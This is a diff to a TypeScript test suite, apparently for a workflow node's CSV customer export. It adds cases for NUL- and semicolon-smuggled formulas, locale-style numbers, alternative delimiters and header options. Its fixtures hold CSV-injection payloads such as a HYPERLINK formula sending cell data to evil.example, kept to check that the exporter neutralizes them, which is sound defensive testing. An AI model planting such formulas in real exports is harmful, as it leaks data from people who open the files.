@@ -22,6 +22,10 @@ const NAMES = [
 	'@SUM(A1:A9)',
 	'\tTab first',
 	'\rCarriage first',
+	'\u0000=1+2',
+	'x;=1+2',
+	'-12,50',
+	'1.234,56',
 	'Müller, José "Zé"\nSão Paulo – 東京 😀',
 	'-150',
 ];
@@ -104,6 +108,13 @@ describe('CSV of hostile and unusual values', () => {
 			"'@SUM(A1:A9)",
 			"'\tTab first",
 			"'\rCarriage first",
+			// NUL is a formula start too (ASVS 5.0 1.2.10).
+			"'\u0000=1+2",
+			// A `;` locale splits this comma file's cell at the `;`: the part after it is neutralized.
+			"x;'=1+2",
+			// Numbers in either decimal notation are not formulas.
+			'-12,50',
+			'1.234,56',
 			'Müller, José "Zé"\nSão Paulo – 東京 😀',
 			// A text that is a plain number is not a formula.
 			'-150',
@@ -115,12 +126,51 @@ describe('CSV of hostile and unusual values', () => {
 		expect(column('note')).toEqual(crafted.map(() => ''));
 		// The field only the last page has: kept in the last column, named in the summary.
 		expect(column('_extraFields')).toEqual([...crafted.slice(0, -1).map(() => ''), JSON.stringify({ vipSince: '2030-01-01', '=danger': 'late' })]);
-		expect(items[0].json).toMatchObject({ records: NAMES.length, pages: 3, extraFields: ['vipSince', '=danger'], recordsWithExtraFields: 1 });
+		expect(items[0].json).toMatchObject({ records: NAMES.length, pages: 4, extraFields: ['vipSince', '=danger'], recordsWithExtraFields: 1 });
 		// As written: quoted where needed, quotes doubled, CRLF between records, UTF-8.
 		expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
 		expect(text).toContain('"Müller, José ""Zé""\nSão Paulo – 東京 😀"');
 		expect(text.split('\r\n')).toHaveLength(NAMES.length + 2);
 		expect(Buffer.from(text, 'utf8').includes(Buffer.from('東京 😀', 'utf8'))).toBe(true);
+	});
+
+	it.each([
+		[';', 'semicolon'],
+		['\t', 'tab'],
+	])('Delimiter %j (%s): the same rows and columns; a formula after another locale\'s delimiter neutralized', async (delimiter) => {
+		const comma = parseCsv((await exportCustomers({ output: 'csvFile' })).text);
+		const { items, text } = await exportCustomers({ output: 'csvFile', fileOptions: { delimiter } });
+		const rows = parseCsv(text, delimiter);
+		expect(rows[0]).toEqual(comma[0]);
+		expect(rows).toHaveLength(comma.length);
+		const name = rows.map((row) => row[1]).slice(1);
+		// The file's own delimiter is quoted, so its reader never splits there: `x;=1+2` stays in a `;` file.
+		expect(name[NAMES.indexOf('x;=1+2')]).toBe(delimiter === ';' ? 'x;=1+2' : "x;'=1+2");
+		expect(name[NAMES.indexOf('-12,50')]).toBe('-12,50');
+		expect(name[NAMES.indexOf('Müller, José "Zé"\nSão Paulo – 東京 😀')]).toBe('Müller, José "Zé"\nSão Paulo – 東京 😀');
+		// The JSON of the late fields: a comma of it is a delimiter to a comma reader of this file, so a
+		// text after it that starts a formula is neutralized as well.
+		expect(rows.at(-1)!.at(-1)).toBe(JSON.stringify({ vipSince: '2030-01-01', "'=danger": 'late' }));
+		// Every other cell as in the comma file.
+		const others = (table: string[][]) => table.map((row) => row.filter((_, k) => k !== 1 && k !== row.length - 1));
+		expect(others(rows)).toEqual(others(comma));
+		expect(items[0].json).toMatchObject({ records: NAMES.length, fileName: 'customers.csv' });
+	});
+
+	it('Header Row off: the rows only', async () => {
+		const { text } = await exportCustomers({ output: 'csvFile', fileOptions: { headerRow: false } });
+		const withHeader = parseCsv((await exportCustomers({ output: 'csvFile' })).text);
+		expect(parseCsv(text)).toEqual(withHeader.slice(1));
+	});
+
+	it('Delimiter other than comma, semicolon or tab: an error naming the field, before any request', async () => {
+		sim().clearRequests();
+		const { error } = await runNode(
+			{ parameters: { resource: 'customer', operation: 'getMany', returnAll: true, output: 'csvFile', fileOptions: { delimiter: '|' } } },
+			{ credentials: dataCredentials(sim()) },
+		);
+		expect(error?.message).toBe('Delimiter must be a comma (,), a semicolon (;) or a tab (got "|")');
+		expect(sim().requests).toHaveLength(0);
 	});
 
 	it('with Neutralize Formulas off, every value is written as it is', async () => {
@@ -135,6 +185,6 @@ describe('CSV of hostile and unusual values', () => {
 		const lines = text.split('\n');
 		expect(lines.at(-1)).toBe('');
 		expect(lines.slice(0, -1).map((line) => JSON.parse(line) as IDataObject)).toEqual(asItems.items.map((i) => i.json));
-		expect((JSON.parse(lines[6]) as IDataObject).name).toBe(NAMES[6]);
+		expect((JSON.parse(lines[10]) as IDataObject).name).toBe(NAMES[10]);
 	});
 });
